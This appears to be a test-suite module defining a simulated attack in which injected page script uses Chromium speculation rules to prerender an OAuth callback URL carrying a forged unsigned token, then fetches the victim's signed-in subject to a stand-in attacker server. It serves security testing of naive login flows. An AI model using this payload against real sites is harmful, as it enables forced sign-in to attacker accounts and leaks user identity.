import { UnsecuredJWT } from 'jose';
import { GRACE } from '../../servers/users.ts';
import type { Attack } from '../attack.ts';
import type { Scene } from '../scene.ts';
import { comesTrue, until } from '../until.ts';

/** Where the attacker's server hears who is signed in after the browser has looked ahead. */
const REPORT_PATH = '/prerendered';

/** A script of the page: it has the browser look ahead at an address, and then looks who is signed in. */
function lookAhead(address: string, { servers }: Scene): string {
  return `
const rules = document.createElement('script');
rules.type = 'speculationrules';
rules.textContent = JSON.stringify({ prerender: [{ urls: [${JSON.stringify(address)}], eagerness: 'immediate' }] });
const stands = () => document.documentElement.dataset.connected === 'yes';
const isTaken = () => localStorage.getItem('naive tokens') || JSON.stringify(window.heard).includes('foreign_response');
const until = async (holds) => {
  while (!holds()) await new Promise((resolve) => setTimeout(resolve, 25));
};
const run = async () => {
  await until(stands);
  if (sessionStorage.getItem('has looked ahead')) {
    await fetch('${servers.foreign.origin}${REPORT_PATH}?subject=' + window.app.subject());
  } else {
    sessionStorage.setItem('has looked ahead', 'yes');
    document.head.append(rules);
    await until(isTaken);
    location.reload();
  }
};
void run();
`;
}

/**
 * Shows a page in a tab of its own. Chromium looks ahead for no page that somebody drives, so there it is a tab that Playwright
 * knows nothing of.
 *
 * @returns closes it
 */
async function show(url: string, { tab }: Scene): Promise<() => Promise<void>> {
  const browser = tab.page?.context().browser();
  if (!browser) {
    await tab.goto(url);
    return async () => {};
  }
  const devTools = await browser.newBrowserCDPSession();
  const { browserContextId } = await devTools.send('Target.createBrowserContext', { disposeOnDetach: true });
  await devTools.send('Target.createTarget', { url, browserContextId });
  return () => devTools.detach();
}

const NO_PRERENDERING = 'prerenders no page that a page asks for';

export const PRERENDERED_ATTACKS: readonly Attack[] = [
  {
    id: 'F26',
    title: 'has the browser prerender the redirect URI with tokens of its own account, so that no page is left',
    scenario: '6.3.2.2',
    naive: 'page',
    begins: 'signed-out',
    ruins: 'profiles',
    notIn: { firefox: NO_PRERENDERING, webkit: NO_PRERENDERING },
    act: async (scene) => {
      const { site, servers, tab, timeoutMs } = scene;
      const token = new UnsecuredJWT({ sub: GRACE.sub }).encode();
      const response = { access_token: token, id_token: token, token_type: 'Bearer', state: 'naive' };
      const path = site.name === 'page' ? '/naive/callback' : '/auth/callback';
      const address = `${path}#${new URLSearchParams(response)}`;
      const before = servers.foreign.requests.length;
      const reports = (): readonly string[] =>
        servers.foreign.requests
          .slice(before)
          .flatMap((request) => request.path.split(`${REPORT_PATH}?subject=`)[1] ?? []);
      const isReported = async (): Promise<boolean> => reports().length > 0;
      const close = await show(site.origin + site.pageAfter(lookAhead(address, scene)), scene);
      try {
        if (tab.page) await until('the browser has looked ahead', isReported);
        else await comesTrue(isReported, timeoutMs);
      } finally {
        await close();
      }
      return { reached: reports().includes(GRACE.sub) };
    },
  },
];
